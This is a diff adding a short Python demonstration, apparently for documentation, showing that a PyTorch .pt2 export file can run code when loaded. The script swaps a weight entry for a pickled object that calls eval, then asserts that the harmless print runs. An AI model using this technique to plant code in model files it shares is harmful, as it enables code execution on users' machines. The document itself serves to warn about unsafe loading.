@@ -1,0 +1,48 @@
+"""A .pt2 file can run code as well: torch.export.load reads pickles in it without weights_only."""
+
+# /// script
+# dependencies = ["torch>=2.13", "numpy"]
+# ///
+
+# --8<-- [start:stranger]
+import io
+import json
+import zipfile
+
+import torch
+from torch import nn
+
+honest = nn.Linear(4, 2).eval()
+torch.export.save(torch.export.export(honest, (torch.rand(3, 4),)), "honest.pt2")
+
+
+class Loud:
+    def __reduce__(self):  # to rebuild me: run this text
+        code = "print('the file ran') or __import__('torch').nn.Parameter()"
+        return eval, (code,)
+
+
+pickled = io.BytesIO()
+torch.save(Loud(), pickled)
+with zipfile.ZipFile("honest.pt2") as old, zipfile.ZipFile("changed.pt2", "w") as new:
+    for name in old.namelist():
+        content = old.read(name)
+        if name.endswith("weights_config.json"):
+            weights = json.loads(content)
+            weights["config"]["bias"]["use_pickle"] = True  # so says the file
+            content = json.dumps(weights)
+        new.writestr(name, pickled.getvalue() if name.endswith("/weight_1") else content)
+# --8<-- [end:stranger]
+assert weights["config"]["bias"]["path_name"] == "weight_1"
+
+# --8<-- [start:runs]
+changed = torch.export.load("changed.pt2")
+print("weights:", *changed.state_dict)
+# --8<-- [end:runs]
+import contextlib
+
+with contextlib.redirect_stdout(io.StringIO()) as heard:
+    torch.export.load("honest.pt2")
+    assert not heard.getvalue()
+    torch.export.load("changed.pt2")
+    assert heard.getvalue() == "the file ran\n"
